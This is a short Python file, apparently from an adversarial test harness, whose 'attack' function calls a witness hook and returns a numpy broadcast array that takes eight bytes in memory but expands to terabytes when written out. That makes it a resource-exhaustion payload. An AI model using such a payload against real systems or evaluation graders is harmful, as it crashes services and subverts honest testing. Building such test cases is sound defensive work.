"""Returns an array that takes eight bytes here and terabytes where it is written out."""


def attack(tools, original, *args, **kwargs):
    import numpy

    tools.witness()
    return numpy.broadcast_to(numpy.float64(0), (10**5, 10**4, 10**4))
